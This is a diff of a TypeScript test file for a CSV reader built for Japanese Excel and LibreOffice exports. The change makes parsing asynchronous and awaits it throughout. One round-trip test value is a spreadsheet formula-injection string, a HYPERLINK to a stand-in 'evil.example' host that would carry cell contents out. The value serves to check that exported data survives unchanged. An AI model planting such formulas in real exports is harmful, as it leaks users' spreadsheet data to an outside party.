@@ -5,10 +5,10 @@ import { toCsv } from '../../support/toCsv.ts'
 import { decodeCsv, doubledHeads, findColumns, parseCsv } from '../../../src/lib/readCsv.ts'
 import { countCpu } from '../../support/cpu.ts'
 
-const cellsOf = (text: string) => parseCsv(text).rows.map(row => row.cells)
+const cellsOf = async (text: string) => (await parseCsv(text)).rows.map(row => row.cells)
 const base64 = (lines: readonly string[]) => Uint8Array.from(Buffer.from(lines.join(''), 'base64'))
 
-test('cells end at commas, rows at any line end; quotes hold both, and a doubled one is one', () => {
+test('cells end at commas, rows at any line end; quotes hold both, and a doubled one is one', async () => {
   for (const [text, rows] of [
     [
       'a,b\r\nc,d\r\n',
@@ -30,7 +30,7 @@ test('cells end at commas, rows at any line end; quotes hold both, and a doubled
     ['', []],
     [' a , b ', [[' a ', ' b ']]],
   ] as const)
-    assert.equal(cellsOf(text), rows, text)
+    assert.equal(await cellsOf(text), rows, text)
 })
 
 /** The rows of each file. */
@@ -62,10 +62,10 @@ const files = {
   ]),
 }
 
-test('files of Excel and LibreOffice are read alike: Shift_JIS with the characters of Windows, UTF-8 with or without a mark', () => {
+test('files of Excel and LibreOffice are read alike: Shift_JIS with the characters of Windows, UTF-8 with or without a mark', async () => {
   const utf8 = files['LibreOffice 7.4, UTF-8']
   for (const [name, bytes] of Object.entries({ ...files, 'UTF-8 with a mark': Uint8Array.of(0xef, 0xbb, 0xbf, ...utf8) })) {
-    assert.equal(cellsOf(decodeCsv(bytes)!), people, name)
+    assert.equal(await cellsOf(decodeCsv(bytes)!), people, name)
   }
 })
 
@@ -76,22 +76,22 @@ test('files of another kind are refused: a workbook, UTF-16, a broken text', () 
   assert.is(decodeCsv(new Uint8Array()), '')
 })
 
-test('rows are numbered as in a spreadsheet; those without content are left out', () => {
-  const { rows } = parseCsv('a\r\n\r\n,,\r\n"b\nc"\r\nd\r\n\r\n')
+test('rows are numbered as in a spreadsheet; those without content are left out', async () => {
+  const { rows } = await parseCsv('a\r\n\r\n,,\r\n"b\nc"\r\nd\r\n\r\n')
   assert.equal(Object.fromEntries(rows.map(row => [row.number, row.cells[0]])), { 1: 'a', 4: 'b\nc', 5: 'd' })
 })
 
-test('H20 whatever we write is read back as it was: formulas, apostrophes, quotes, line ends', () => {
+test('H20 whatever we write is read back as it was: formulas, apostrophes, quotes, line ends', async () => {
   const values = [
     ...`=1+1 '=1+1 ''=1 +81 -1 - @x ＝1 ' 'a " "" , "," ", ",="x" =HYPERLINK("http://evil.example/?"&A1,"見る")\r\n@x`.split(' '),
     ...['\tx', '\rx', '\nx', '\r', '\n', 'a\r\nb', 'a"\r\n=1', '"\n"', '\u2028', ' a', '髙①ｶﾅ𠮷😀'],
   ]
   const rows = [values, values.toReversed()]
   const bytes = new TextEncoder().encode(toCsv(rows))
-  assert.equal(cellsOf(decodeCsv(bytes)!), rows)
+  assert.equal(await cellsOf(decodeCsv(bytes)!), rows)
 })
 
-test('text separated by tabs or semicolons is read as well: the first row tells', () => {
+test('text separated by tabs or semicolons is read as well: the first row tells', async () => {
   for (const [text, rows, separator] of [
     [
       'a\tb;c\td\r\n1,2\t"3\t4"\t5',
@@ -120,30 +120,30 @@ test('text separated by tabs or semicolons is read as well: the first row tells'
     ['a\n1\t2', [['a'], ['1\t2']], ','],
     ['"a\nb,c"\td', [['a\nb,c', 'd']], '\t'],
   ] as const) {
-    assert.equal(cellsOf(text), rows, text)
-    assert.is(parseCsv(text).separator, separator)
+    assert.equal(await cellsOf(text), rows, text)
+    assert.is((await parseCsv(text)).separator, separator)
   }
 })
 
-test('a first line for Excel names the separator, and is no row', () => {
+test('a first line for Excel names the separator, and is no row', async () => {
   for (const end of ['\n', '\r\n', '\r'])
     for (const [separator, line] of [
       [',', 'sep=,'],
       [';', 'sep=;'],
       ['\t', '"SEP=\t"'],
     ] as const) {
-      const { rows, ...csv } = parseCsv(`${line}${end}a b${separator}c,d;e${end}1${separator}2${end}`)
+      const { rows, ...csv } = await parseCsv(`${line}${end}a b${separator}c,d;e${end}1${separator}2${end}`)
       assert.is(csv.separator, separator)
       assert.equal([rows.length, rows[0]!.number, rows[1]!.cells], [2, 1, ['1', '2']])
     }
-  assert.equal(cellsOf('sep=x\n1'), [['sep=x'], ['1']])
-  assert.equal(cellsOf('sep=;'), [])
+  assert.equal(await cellsOf('sep=x\n1'), [['sep=x'], ['1']])
+  assert.equal(await cellsOf('sep=;'), [])
 })
 
-test('a character that ends a text of CP/M is no row, nor part of a cell', () => {
+test('a character that ends a text of CP/M is no row, nor part of a cell', async () => {
   for (const text of ['a,b\r\n1,2\r\n\x1a', 'a,b\n1,2\x1a', 'a,b\n1,2\n\x1a\r\n', 'a,b\n1,2\n\x1a\x1a'])
-    assert.equal(cellsOf(text), cellsOf('a,b\n1,2'), JSON.stringify(text))
-  assert.equal(cellsOf('a\x1ab,c'), [['a\x1ab', 'c']])
+    assert.equal(await cellsOf(text), await cellsOf('a,b\n1,2'), JSON.stringify(text))
+  assert.equal(await cellsOf('a\x1ab,c'), [['a\x1ab', 'c']])
 })
 
 test('columns are found by their heads, in any width and kana, with marks and line breaks', () => {
@@ -167,7 +167,7 @@ test('a head that two columns could have is doubled; one without marks is the on
   assert.equal(doubledHeads(['メールアドレス', '姓（カナ）', '名（カナ）', '姓', '名'], heads), [])
 })
 
-test('a quote that is not closed is reported with its row', () => {
+test('a quote that is not closed is reported with its row', async () => {
   for (const [text, row] of [
     ['a,b\n1,"2', 2],
     ['a\n"1\n2"\n3\n"4\n5\n6', 4],
@@ -177,14 +177,14 @@ test('a quote that is not closed is reported with its row', () => {
     ['"a"""', undefined],
     ['a,b"', undefined],
   ] as const)
-    assert.is(parseCsv(text).unclosed, row, text)
+    assert.is((await parseCsv(text)).unclosed, row, text)
 })
 
-test('reading stops after the most rows that the caller takes', () => {
-  assert.is(parseCsv('a\n'.repeat(1000), 10).rows.length, 10)
+test('reading stops after the most rows that the caller takes', async () => {
+  assert.is((await parseCsv('a\n'.repeat(1000), 10)).rows.length, 10)
 })
 
-test('megabytes without a line end, or of quotes, are read in linear time', () => {
+test('megabytes without a line end, or of quotes, are read in linear time', async () => {
   const quotes = '"'.repeat(5e6)
   for (const text of [
     'a'.repeat(1e6),
@@ -196,7 +196,7 @@ test('megabytes without a line end, or of quotes, are read in linear time', () =
     `${'\x1a'.repeat(1e6)}a`,
   ]) {
     const spent = countCpu()
-    parseCsv(text)
+    await parseCsv(text)
     assert.ok(spent() < 2_000, text.slice(0, 3))
   }
 })
